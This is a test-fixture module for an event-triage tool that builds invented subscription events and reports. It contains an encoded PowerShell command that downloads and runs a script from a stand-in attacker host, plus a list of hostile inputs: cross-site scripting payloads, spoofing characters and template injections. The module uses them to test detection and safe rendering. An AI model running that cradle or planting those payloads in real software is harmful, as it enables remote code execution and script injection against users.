import { readEvents } from '../../../lib/events';
import type { TriagedFiles } from '../../../lib/report/triage/triaged-files';
import type { TriagedChain } from '../../../lib/triage';
import { triage } from '../../../lib/triage';
import { binding, consumer, filter, whole } from '../../triage/join/recordings';

export { binding, consumer, filter, whole };

/** One day, so that nothing depends on the clock. */
const TODAY = '2026-01-31';

/**
 * Recorded events as `triage` hands them to a format.
 *
 * @param events - invented events, in one file
 * @param path - the name of the file
 * @returns all subscriptions of them, all shown
 */
export function triagedFiles(events: readonly object[], path = 'events.jsonl'): TriagedFiles {
  const read = readEvents(events.map((event) => JSON.stringify(event)).join('\n'));
  const report = triage([{ ...read, name: path }], { today: TODAY });
  const byId = new Map<number, number>();
  for (const id of [...read.events.map(({ event }) => event.EventID), ...read.activity.map(({ eventId }) => eventId)]) {
    byId.set(id, (byId.get(id) ?? 0) + 1);
  }
  return {
    report,
    shown: report.chains,
    files: [
      { path, byId, inventory: read.inventory.length, others: read.skipped, lost: null, problems: read.problems },
    ],
    context: null,
    manifest: null,
    config: null,
    today: TODAY,
  };
}

/**
 * The same with every subscription changed.
 *
 * @param files - what was found
 * @param change - what is different
 * @returns a copy
 */
export function withChains(files: TriagedFiles, change: (chain: TriagedChain) => TriagedChain): TriagedFiles {
  const chains = files.report.chains.map(change);
  return { ...files, report: { ...files.report, chains }, shown: chains };
}

/** Runs a download that PowerShell decodes first: two layers, and evidence in each of them. */
export const ENCODED = `powershell.exe -nop -w hidden -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")}`;

function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/**
 * A subscription of three events.
 *
 * @param name - of filter and consumer
 * @param said - what it runs, where and when (seconds after the first day begins)
 * @returns its events
 */
export function subscription(
  name: string,
  said: { readonly destination?: string; readonly host?: string; readonly at?: number; readonly query?: string } = {},
): readonly object[] {
  const at = said.at ?? 0;
  return [
    filter(name, { ...said, at }),
    consumer(name, { ...said, at: at + 1 }),
    binding(name, name, { ...said, at: at + 2 }),
  ];
}

/** Values that mean something to HTML, Markdown, a terminal or a reader's eye. */
export const HOSTILE: readonly string[] = [
  '</style><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '" onload="alert(1)" x="',
  "' onfocus='alert(1)",
  '<!-- ',
  ']]> --> </pre></svg></title>',
  '&lt;b&gt; &#60;b&#62;',
  'javascript:alert(1)',
  'http://evil.example/a?b=c',
  '[click](http://evil.example)',
  '![x](https://evil.example/x.png)',
  '<https://evil.example>',
  'www.evil.example',
  'a@evil.example',
  '@admin #1 !1 ~bug $1 :boom: corp/repo#2',
  '| a | b |',
  '\\| \\`',
  '``` ```` `',
  '~~~',
  '# heading',
  '- item',
  '1. item',
  '> quote',
  '**bold** _it_ ~~gone~~',
  '\u202eexe.txt\u202c',
  '\u200b\ufeff\u2028',
  '\u0000\u0007\u001b[31m',
  'a\r\nb\nc\td',
  '\ud800',
  '${alert(1)} {{x}} <%= x %>',
];
